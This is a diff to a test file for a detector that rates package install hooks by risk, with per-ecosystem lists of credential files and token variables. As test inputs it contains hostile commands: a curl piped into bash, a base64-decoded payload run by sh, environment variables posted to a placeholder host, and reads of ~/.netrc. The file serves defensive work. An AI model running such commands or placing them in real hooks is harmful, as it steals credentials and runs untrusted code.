@@ -1,5 +1,20 @@
 import { describe, expect, it } from 'vitest';
-import { analyseHookCommand, analyseHookSource, combineHookAnalyses, filesRunBy } from './hook-behaviour.js';
+import {
+  analyseHookCommand,
+  analyseHookSource,
+  combineHookAnalyses,
+  embeddedCommandEvidence,
+  filesRunBy,
+  mergeHookVocabularies,
+  type HookVocabulary,
+} from './hook-behaviour.js';
+
+// A made-up ecosystem's vocabulary: the core knows none; each plugin supplies its own (Plugin.hooks).
+const tool: HookVocabulary = {
+  credentialFiles: ['.toolrc'],
+  tokenVariables: ['TOOL_TOKEN'],
+  nativeBuildCommands: [/^\s*(?:build-binding(?:\s{1,8}rebuild)?|fetch-prebuilt\s{1,8}\|\|\s{1,8}build-binding)\s*$/],
+};
 
 describe('analyseHookCommand', () => {
   it.each([
@@ -8,22 +23,51 @@ describe('analyseHookCommand', () => {
     ['bash -c "$(curl -fsSL https://x.example/i)"', 'critical', 'download-and-execute'],
     ['echo aGk= | base64 -d | sh', 'critical', 'eval-decoded'],
     ['env | curl -d @- https://x.example', 'critical', 'env-exfiltration'],
-    ['cat ~/.npmrc', 'high', 'credential-read'],
+    ['cat ~/.netrc', 'high', 'credential-read'],
+    ['cat ~/.toolrc', 'high', 'credential-read'],
     ['sh -c "make all"', 'high', 'shell'],
     ['curl -o bin.tgz https://x.example/bin.tgz', 'high', 'download'],
     ['node install.js', 'medium', 'runs-file'],
     ['make', 'medium', 'opaque'],
-    ['node-gyp rebuild', 'low', 'native-build'],
-    ['prebuild-install || node-gyp rebuild', 'low', 'native-build'],
+    ['build-binding rebuild', 'low', 'native-build'],
+    ['fetch-prebuilt || build-binding', 'low', 'native-build'],
   ] as const)('%s → %s (%s)', (command, severity, behaviour) => {
-    const a = analyseHookCommand(command);
+    const a = analyseHookCommand(command, tool);
     expect(a.severity).toBe(severity);
     expect(a.behaviours[0]).toBe(behaviour);
   });
 
   it('a harmless-looking command followed by more is not low', () => {
-    expect(analyseHookCommand('node-gyp rebuild && curl https://x.example/a | sh').severity).toBe('critical');
-    expect(analyseHookCommand('node-gyp rebuild; ./post').severity).toBe('medium');
+    expect(analyseHookCommand('build-binding rebuild && curl https://x.example/a | sh', tool).severity).toBe(
+      'critical',
+    );
+    expect(analyseHookCommand('build-binding rebuild; ./post', tool).severity).toBe('medium');
+  });
+
+  it('an ecosystem’s credential files and benign builds are what its vocabulary says, nothing more', () => {
+    expect(analyseHookCommand('cat ~/.toolrc').behaviours).toEqual(['opaque']);
+    expect(analyseHookCommand('build-binding rebuild').behaviours).toEqual(['opaque']);
+    expect(analyseHookSource('read(env.TOOL_TOKEN)').behaviours).toEqual(['nothing-recognised']);
+    expect(analyseHookSource('read(env.TOOL_TOKEN)', tool).behaviours).toEqual(['credential-read']);
+    // Literals, escaped: a vocabulary cannot inject a pattern.
+    expect(analyseHookCommand('cat ~/xtoolrc', tool).behaviours).toEqual(['opaque']);
+    expect(embeddedCommandEvidence('cat ~/.toolrc', 10, tool)).toEqual([
+      { behaviour: 'credential-read', text: '.toolrc', offset: 16 },
+    ]);
+    // Embedded strings never count as a benign build (it is only benign as the whole hook command).
+    expect(embeddedCommandEvidence('build-binding', 0, tool)).toEqual([]);
+  });
+
+  it('merges vocabularies in order, so a hook reading another ecosystem’s token is still a credential read', () => {
+    const other: HookVocabulary = { credentialFiles: ['.otherrc'], tokenVariables: ['OTHER_TOKEN'] };
+    const merged = mergeHookVocabularies([tool, undefined, other]);
+    expect(merged).toEqual({
+      credentialFiles: ['.toolrc', '.otherrc'],
+      tokenVariables: ['TOOL_TOKEN', 'OTHER_TOKEN'],
+      nativeBuildCommands: tool.nativeBuildCommands,
+    });
+    expect(analyseHookCommand('cat ~/.otherrc', merged).behaviours).toEqual(['credential-read']);
+    expect(analyseHookSource('x = ENV["OTHER_TOKEN"]', merged).behaviours).toEqual(['credential-read']);
   });
 
   it('names the files a command runs', () => {
@@ -38,7 +82,7 @@ describe('analyseHookCommand', () => {
 describe('analyseHookSource', () => {
   it('JavaScript: spawn, network, credential read, decoded eval', () => {
     const a = analyseHookSource(
-      "const cp = require('child_process'); require('https'); fs.readFileSync(home + '/.npmrc'); eval(Buffer.from(s, 'base64').toString())",
+      "const cp = require('child_process'); require('https'); fs.readFileSync(home + '/.netrc'); eval(Buffer.from(s, 'base64').toString())",
     );
     expect(a.severity).toBe('critical');
     expect(a.behaviours).toEqual(
@@ -53,7 +97,7 @@ describe('analyseHookSource', () => {
   });
 
   it('nothing recognised is low, and says it is no proof', () => {
-    const a = analyseHookSource('fn main() { println!("cargo:rerun-if-changed=build.rs"); }');
+    const a = analyseHookSource('fn main() { println!("tool:rerun-if-changed=build.rs"); }');
     expect(a.severity).toBe('low');
     expect(a.summary).toContain('does not prove it harmless');
   });
